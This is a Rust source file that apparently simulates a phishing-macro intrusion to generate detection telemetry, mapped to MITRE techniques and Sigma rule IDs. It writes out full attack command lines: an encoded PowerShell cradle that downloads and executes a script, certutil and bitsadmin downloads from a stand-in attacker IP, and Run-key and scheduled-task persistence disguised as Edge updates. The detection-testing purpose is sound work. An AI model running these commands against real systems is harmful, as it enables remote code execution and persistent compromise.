//! A macro document from email: encoded PowerShell, downloads, a backdoor and persistence.

use base64::engine::general_purpose::STANDARD;
use base64::Engine;

use super::{system32, Scene, Story};
use crate::windows::Remote;

pub(super) const STORY: Story = Story {
    id: "phishing-macro",
    title_vi: "Tài liệu tuyển sinh giả mạo chứa mã độc",
    title_en: "Malicious admissions document",
    summary_vi: "Một cán bộ Sở Giáo dục và Đào tạo mở tệp Word \"kế hoạch tuyển sinh\" nhận qua thư điện tử. Macro chạy PowerShell ẩn với lệnh mã hóa base64, tải thêm công cụ bằng certutil và bitsadmin, chạy chương trình cửa hậu rồi cài khóa Run và tác vụ định kỳ để tồn tại lâu dài.",
    summary_en: "A member of staff opens an \"admissions plan\" Word file from email. Its macro runs hidden PowerShell with a base64-encoded command, pulls tools with certutil and bitsadmin, starts a backdoor and persists through a Run key and a scheduled task.",
    techniques: &["T1566.001", "T1204.002", "T1059.001", "T1027", "T1105", "T1071.001", "T1547.001", "T1053.005"],
    rule_ids: &[
        "1277f594-a7d1-4f28-a2d3-73af5cbeab43", // Windows Shell/Scripting Application File Write to Suspicious Folder
        "f0540f7e-2db3-4432-b9e0-3965486744bc", // Legitimate Application Dropped Executable
        "1cf465a1-2609-4c15-9b66-c32dbe4bfd67", // Legitimate Application Writing Files In Uncommon Location
        "b447f7de-1e53-4cbf-bfb4-f1f6d0b04e4e", // Suspicious Binaries and Scripts in Public Folder
        "0dba975d-a193-4ed1-a067-424df57570d1", // Uncommon Network Connection Initiated By Certutil.EXE
        "7b434893-c57d-4f41-908d-6a17bf1ae98f", // Network Connection Initiated From Process Located In Potentially Suspicious Or Uncommon Location
        "ae7fbf8e-f3cb-49fd-8db4-5f3bed522c71", // Suspicious PowerShell Invocations - Specific
        "d059842b-6b9d-4ed1-b5c3-5b89143c6ede", // File Download Via Bitsadmin
        "99c840f2-2012-46fd-9141-c761987550ef", // Suspicious Download From Direct IP Via Bitsadmin
        "5b80a791-ad9b-4b75-bcc1-ad4e1e89c200", // File With Suspicious Extension Downloaded Via Bitsadmin
        "2ddef153-167b-4e89-86b6-757a9e65dcac", // File Download Via Bitsadmin To A Suspicious Target Folder
        "19b08b1c-861d-4e75-a1ef-ea0c1baf202b", // Suspicious Download Via Certutil.EXE
        "13e6fe51-d478-4c7e-b0f2-6da9b400a829", // Suspicious File Downloaded From Direct IP Via Certutil.EXE
        "79f4ede3-402e-41c8-bc3e-ebbf5f162581", // HackTool - Empire PowerShell Launch Parameters
        "438025f9-5856-4663-83f7-52f878a70a50", // Suspicious Microsoft Office Child Process
        "ca2092a1-c273-4878-9b4b-0d60115bf5ea", // Suspicious Encoded PowerShell Command Line
        "b9d9cc83-380b-4ba3-8d8f-60c0e7e2930c", // Suspicious PowerShell Encoded Command Patterns
        "fb843269-508c-4b76-8b8d-88679db22ce7", // Suspicious Execution of Powershell with Base64
        "f4bbd493-b796-416e-bbf2-121235348529", // Non Interactive PowerShell Process Spawned
        "c86133ad-4725-4bd0-8170-210788e0a7ba", // Net WebClient Casing Anomalies
        "de587dce-915e-4218-aac4-835ca6af6f70", // Potential Persistence Attempt Via Run Keys Using Reg.EXE
        "24357373-078f-44ed-9ac4-6d334a668a11", // Direct Autorun Keys Modification
        "92626ddd-662c-49e3-ac59-f6535f12d189", // Scheduled Task Creation Via Schtasks.EXE
        "81325ce1-be01-4250-944f-b4789644556f", // Schedule Task Creation From Env Variable Or Potentially Suspicious Path Via Schtasks.EXE
        "69bd9b97-2be2-41b6-9816-fb08757a4d1a", // Potentially Suspicious Execution From Parent Process In Public Folder
        "3a6586ad-127a-4d3b-a677-1e6eacdf8fde", // Windows Shell/Scripting Processes Spawning Suspicious Programs
        "20f0ee37-5942-4e45-b7d5-c5b5db9df5cd", // CurrentVersion Autorun Keys Modification
        "02ee49e2-e294-4d0f-9278-f5b3212fc588", // New RUN Key Pointing to Suspicious Folder
    ],
    agency_slot: 3,
    starts_around: (9, 30),
    play,
};

const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
/// The look-alike of the portal's domain that the backdoor calls.
const LOOKALIKE_DOMAIN: &str = "api.dichvucong-minhson.net";
/// Where the tools land: a public folder every user can write.
const DROP_DIR: &str = "C:\\Users\\Public\\Libraries\\MsEdge";
/// The name the backdoor hides under in the Run key and the task scheduler.
const DISGUISE: &str = "MicrosoftEdgeUpdateCore";

/// PowerShell's `-EncodedCommand` form of a script: base64 of its UTF-16LE bytes.
fn encode_command(script: &str) -> String {
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    STANDARD.encode(utf16)
}

fn play(scene: &mut Scene<'_>) {
    let victim = scene.workstation();
    let c2 = scene.attacker_ip([203, 0, 113]);
    let stage = |file: &str| format!("http://{c2}/tuyensinh/{file}");
    let implant_path = format!("{DROP_DIR}\\msedgeupd.exe");

    // The attachment is saved from webmail and opened in Word.
    let document = format!(
        "C:\\Users\\{}\\Downloads\\KH_tuyen_sinh_lop10_2025-2026.doc",
        victim.user().name
    );
    scene.write_file(&victim, victim.browser(), 0, &document);
    let word = scene.run(
        &victim,
        victim.shell(),
        35,
        WORD,
        &format!("\"{WORD}\" /n \"{document}\" /o \"\""),
    );

    // The macro starts hidden PowerShell with an encoded download cradle.
    let cradle = format!(
        "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');IEX $w.DownloadString('{}')",
        stage("ks.ps1")
    );
    let launcher = format!(
        "powershell.exe -NoP -NonI -W Hidden -Enc {}",
        encode_command(&cradle)
    );
    let powershell = scene.run(&victim, &word, 14, POWERSHELL, &launcher);
    scene.script_block(&victim, 1, &cradle);
    scene.connect(&victim, &powershell, 1, Remote::new(c2, 80, "-"));
    let stage_two = [
        "$d = \"$env:PUBLIC\\Libraries\\MsEdge\"".to_owned(),
        "New-Item -ItemType Directory -Force -Path $d | Out-Null".to_owned(),
        format!(
            "certutil.exe -urlcache -split -f {} \"$d\\msedgeupd.exe\"",
            stage("msedge.dat")
        ),
        format!(
            "bitsadmin /transfer edgeupd /priority foreground {} \"$d\\vcruntime140.dll\"",
            stage("vcruntime.dat")
        ),
        "Start-Process \"$d\\msedgeupd.exe\"".to_owned(),
    ]
    .join("\n");
    scene.script_block(&victim, 2, &stage_two);

    // Tools arrive through two living-off-the-land downloaders.
    let certutil = system32("certutil.exe");
    let download = format!(
        "\"{certutil}\" -urlcache -split -f {} {implant_path}",
        stage("msedge.dat")
    );
    let certutil = scene.run(&victim, &powershell, 3, &certutil, &download);
    scene.connect(&victim, &certutil, 1, Remote::new(c2, 80, "-"));
    scene.write_file(&victim, &certutil, 2, &implant_path);
    let bitsadmin = system32("bitsadmin.exe");
    let transfer = format!(
        "\"{bitsadmin}\" /transfer edgeupd /priority foreground {} {DROP_DIR}\\vcruntime140.dll",
        stage("vcruntime.dat")
    );
    scene.run(&victim, &powershell, 10, &bitsadmin, &transfer);

    // The backdoor starts and calls home to a look-alike of the portal's domain.
    let implant = scene.run(
        &victim,
        &powershell,
        20,
        &implant_path,
        &format!("\"{implant_path}\""),
    );
    let at = scene.wait(3);
    scene
        .timeline
        .dns_query(at, &victim, &implant, LOOKALIKE_DOMAIN, c2);
    scene.connect(&victim, &implant, 1, Remote::new(c2, 443, LOOKALIKE_DOMAIN));

    // Persistence: a Run key and a scheduled task, both disguised as Edge updates.
    let run_key = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
    let reg = scene.via_cmd(
        &victim,
        &implant,
        60,
        &format!("reg add {run_key} /v {DISGUISE} /t REG_SZ /d \"{implant_path}\" /f"),
    );
    let at = scene.wait(0);
    let value = format!("HKU\\{}\\{}\\{DISGUISE}", victim.user().sid, &run_key[5..]);
    scene
        .timeline
        .registry_value_set(at, &victim, &reg, &value, &implant_path);
    let task = format!(
        "schtasks /create /sc minute /mo 30 /tn \"{DISGUISE}Task\" /tr \"{implant_path}\" /f"
    );
    scene.via_cmd(&victim, &implant, 40, &task);
}
